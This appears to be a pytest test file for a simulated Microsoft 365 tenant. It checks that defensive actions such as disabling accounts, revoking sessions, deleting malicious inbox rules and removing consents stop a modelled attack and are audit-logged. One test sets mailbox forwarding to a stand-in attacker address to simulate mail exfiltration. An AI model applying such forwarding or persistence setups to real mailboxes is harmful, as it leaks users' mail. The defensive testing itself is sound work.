"""What is done to the tenant changes what it logs next, and is logged itself."""

from __future__ import annotations

import pytest

from streams.simulation.clock import graph_time

from .conftest import DAY, HOUR, NOW, Open, small
from .told import TYPES, acts, at_the_rule, attacked, operations, outsiders


def test_left_alone_the_attack_reaches_more_than_nine_thousand(open_service: Open) -> None:
    caller = open_service(attacked())
    name = at_the_rule(caller)
    caller.clock.ms = NOW + 3 * HOUR
    assert outsiders(caller, name) > 9_000


def test_a_disabled_account_sends_nothing_and_fails_to_sign_in(open_service: Open) -> None:
    caller = open_service(attacked())
    name = at_the_rule(caller)
    assert caller.graph(f"v1.0/users/{name}", "PATCH", {"accountEnabled": False}).status_code == 204
    since = caller.clock.ms
    assert caller.graph(f"v1.0/users/{name}").json()["accountEnabled"] is False
    caller.clock.ms = NOW + 10 * HOUR
    assert outsiders(caller, name) == 0
    after = acts(caller, name, since + 1000, NOW + 8 * HOUR)
    assert operations(after) <= {"UserLoginFailed"}
    assert {record["ErrorNumber"] for record in after} <= {"50057"}
    asked = f"createdDateTime ge {graph_time(since + 1000)} and userPrincipalName eq '{name}'"
    rows = caller.rows(
        "beta/auditLogs/signIns", filter=asked + " and signInEventTypes/any(t: t eq 'nonInteractiveUser')"
    )
    assert rows and {row["status"]["errorCode"] for row in rows} == {50057}


def test_an_enabled_account_goes_on(open_service: Open) -> None:
    caller = open_service(attacked(accounts=6))
    name = at_the_rule(caller)
    caller.graph(f"v1.0/users/{name}", "PATCH", {"accountEnabled": False})
    caller.clock.ms = NOW + 3 * HOUR
    caller.graph(f"v1.0/users/{name}", "PATCH", {"accountEnabled": True})
    caller.clock.ms = NOW + 30 * HOUR
    assert acts(caller, name, NOW + 4 * HOUR, NOW + 28 * HOUR)


def test_a_revoked_session_ends_for_the_thief_and_the_owner_signs_in_anew(open_service: Open) -> None:
    caller = open_service(attacked(story="S1"))
    name = at_the_rule(caller)
    before = acts(caller, name, NOW - DAY, caller.clock.ms)
    used = {record["AppAccessContext"]["AADSessionId"] for record in before if "AppAccessContext" in record}
    answer = caller.graph(f"v1.0/users/{name}/revokeSignInSessions", "POST")
    assert (answer.status_code, answer.json()["value"]) == (200, True)
    since = caller.clock.ms
    assert caller.graph(f"v1.0/users/{name}/revokeSignInSessions", "POST").status_code == 200
    caller.clock.ms = NOW + 30 * HOUR
    assert outsiders(caller, name) < 1_000
    after = acts(caller, name, since + 1000, NOW + 26 * HOUR)
    worked = [record for record in after if "AppAccessContext" in record]
    assert worked and not used & {record["AppAccessContext"]["AADSessionId"] for record in worked}
    failed = {record["ErrorNumber"] for record in after if record["Operation"] == "UserLoginFailed"}
    assert {"50173", "50133"} <= failed
    fresh = [record for record in after if record["Operation"] == "UserLoggedIn"]
    assert fresh and fresh[0]["CreationTime"] <= worked[0]["CreationTime"]


def test_a_replayed_token_ends_with_its_session(open_service: Open) -> None:
    caller = open_service(attacked(story="S7"))
    caller.clock.ms = NOW + HOUR
    caller.graph("v1.0/organization")
    told = caller.service.tenant().world.told[0]
    name = told.accounts[0]
    caller.graph(f"v1.0/users/{name}/revokeSignInSessions", "POST")
    caller.clock.ms = NOW + 12 * HOUR
    later = {uid for stage in told.stages for uid in stage.uids}
    seen = {record["Id"] for record in acts(caller, name, NOW + HOUR + 1000, NOW + 10 * HOUR)
            if record["Operation"] == "MailItemsAccessed"}  # fmt: skip
    assert not later & seen


@pytest.mark.parametrize("way", ["graph", "exchange"])
def test_a_removed_rule_is_gone_and_the_removal_is_logged_as_ours(open_service: Open, way: str) -> None:
    caller = open_service(attacked())
    name = at_the_rule(caller)
    path = f"v1.0/users/{name}/mailFolders/inbox/messageRules"
    rule = next(rule for rule in caller.rows(path) if rule["actions"].get("delete"))
    if way == "graph":
        assert caller.graph(f"{path}/{rule['id']}", "DELETE").status_code == 204
        again = caller.graph(f"{path}/{rule['id']}", "DELETE")
        assert (again.status_code, again.json()["error"]["code"]) == (404, "ErrorItemNotFound")
    else:
        number = next(row["RuleIdentity"] for row in caller.exchange("Get-InboxRule", Mailbox=name).json()["value"]
                      if row["DeleteMessage"])  # fmt: skip
        assert caller.exchange("Remove-InboxRule", Identity=str(number), Mailbox=name).status_code == 200
        assert caller.exchange("Remove-InboxRule", Identity=str(number), Mailbox=name).status_code == 404
    assert not any(other["id"] == rule["id"] for other in caller.rows(path))
    caller.clock.ms += HOUR
    told = [record for record in caller.records("Audit.Exchange", NOW, caller.clock.ms)
            if record["Operation"] == "Remove-InboxRule" and record["UserId"].startswith("ServicePrincipal_")]  # fmt: skip
    assert [record["AppId"] for record in told] == [caller.who.client_id]
    assert told[0]["UserType"] == 6


def test_a_disabled_rule_stays_and_is_off(open_service: Open) -> None:
    caller = open_service(attacked())
    name = at_the_rule(caller)
    path = f"v1.0/users/{name}/mailFolders/inbox/messageRules"
    rule = next(rule for rule in caller.rows(path) if rule["actions"].get("delete"))
    answer = caller.graph(f"{path}/{rule['id']}", "PATCH", {"isEnabled": False})
    assert answer.json()["isEnabled"] is False and answer.json()["id"] == rule["id"]
    assert caller.graph(f"{path}/{rule['id']}").json()["isEnabled"] is False
    shown = caller.exchange("Get-InboxRule", Mailbox=name).json()["value"]
    assert [row["Enabled"] for row in shown if row["DeleteMessage"]] == [False]


def test_forwarding_leaves_rows_until_it_is_cleared(open_service: Open) -> None:
    caller = open_service(small(lateness=0.0, duplicates=0.0))
    users = [row["userPrincipalName"] for row in caller.rows("v1.0/users")]
    name = users[1]
    target = "collector@attacker.example"
    caller.exchange(
        "Set-Mailbox", Identity=name, ForwardingSmtpAddress=f"smtp:{target}", DeliverToMailboxAndForward=True
    )
    caller.clock.ms += 12 * HOUR
    asked = f"receivedDateTime ge {graph_time(NOW)} and recipientAddress eq '{target}'"
    path = "v1.0/admin/exchange/tracing/messageTraces"
    sent = caller.rows(path, filter=asked)
    assert sent and {row["senderAddress"] for row in sent} == {name}
    caller.exchange("Set-Mailbox", Identity=name, ForwardingSmtpAddress=None)
    caller.clock.ms += 12 * HOUR
    assert len(caller.rows(path, filter=asked)) == len(sent)


def test_what_is_done_in_the_directory_is_in_both_logs(open_service: Open) -> None:
    caller = open_service(small(lateness=0.0, subscribed=TYPES))
    name = caller.rows("v1.0/users")[2]["userPrincipalName"]
    caller.graph(f"v1.0/users/{name}", "PATCH", {"accountEnabled": False})
    caller.graph(f"v1.0/users/{name}/revokeSignInSessions", "POST")
    caller.clock.ms += HOUR
    ours = {record["Operation"]: record for record in caller.records("Audit.AzureActiveDirectory", NOW - HOUR, NOW + HOUR)
            if record["UserId"].startswith("ServicePrincipal_")}  # fmt: skip
    assert {"Disable account.", "Update StsRefreshTokenValidFrom Timestamp."} <= ours.keys()
    asked = f"activityDateTime ge {graph_time(NOW - HOUR)}"
    rows = {row["activityDisplayName"]: row for row in caller.rows("v1.0/auditLogs/directoryAudits", filter=asked)}
    assert rows["Disable account"]["initiatedBy"]["app"]["displayName"] == "Watchpost"
    assert rows["Disable account"]["targetResources"][0]["userPrincipalName"] == name


def test_consents_roles_methods_and_applications_can_be_taken_away(open_service: Open) -> None:
    caller = open_service(small(roles=small().roles | {"UserAuthenticationMethod.ReadWrite.All"}))
    grant = caller.rows("v1.0/oauth2PermissionGrants")[0]["id"]
    crm = next(row["id"] for row in caller.rows("v1.0/servicePrincipals") if row["displayName"] == "Linden CRM")
    role = caller.rows(f"v1.0/servicePrincipals/{crm}/appRoleAssignments")[0]["id"]
    name, method = next(
        (row["userPrincipalName"], found) for row in caller.rows("v1.0/users")
        for found in caller.rows(f"v1.0/users/{row['userPrincipalName']}/authentication/methods")
        if "microsoftAuthenticator" in found["@odata.type"]
    )  # fmt: skip
    paths = (f"oauth2PermissionGrants/{grant}", f"servicePrincipals/{crm}/appRoleAssignments/{role}",
             f"users/{name}/authentication/microsoftAuthenticatorMethods/{method['id']}")  # fmt: skip
    for path in paths:
        assert [caller.graph(f"v1.0/{path}", "DELETE").status_code for _ in range(2)] == [204, 404]
    assert caller.graph(f"v1.0/servicePrincipals/{crm}", "PATCH", {"accountEnabled": False}).status_code == 204
    assert caller.graph(f"v1.0/servicePrincipals/{crm}").json()["accountEnabled"] is False
    password = "28c10230-6103-485e-b985-444c60001490"
    assert caller.graph(f"v1.0/users/{name}/authentication/passwordMethods/{password}", "DELETE").status_code == 400


def test_administrators_are_protected_and_nonsense_is_refused(open_service: Open) -> None:
    caller = open_service()
    users = caller.rows("v1.0/users")
    admin, other = users[0]["id"], users[1]["id"]
    assert caller.graph(f"v1.0/users/{admin}", "PATCH", {"accountEnabled": False}).status_code == 403
    assert caller.graph(f"v1.0/users/{other}", "PATCH", {"accountEnabled": "no"}).status_code == 400
    assert caller.graph(f"v1.0/users/{other}", "PATCH", [1]).status_code == 400
    assert caller.graph("v1.0/users/nobody", "PATCH", {"accountEnabled": False}).status_code == 404
    assert caller.graph("v1.0/users/nobody/revokeSignInSessions", "POST").status_code == 404


def test_confirming_a_compromise_needs_p2(open_service: Open) -> None:
    caller = open_service()
    user = caller.rows("v1.0/users")[1]["id"]
    path = "v1.0/identityProtection/riskyUsers/confirmCompromised"
    assert caller.graph(path, "POST", {"userIds": [user]}).status_code == 204
    assert caller.graph(path, "POST", {"userIds": ["nobody"]}).status_code == 404
    assert caller.graph(path, "POST", {}).status_code == 400
    caller.service.tenant().licences.discard("P2")
    assert caller.graph(path, "POST", {"userIds": [user]}).status_code == 403
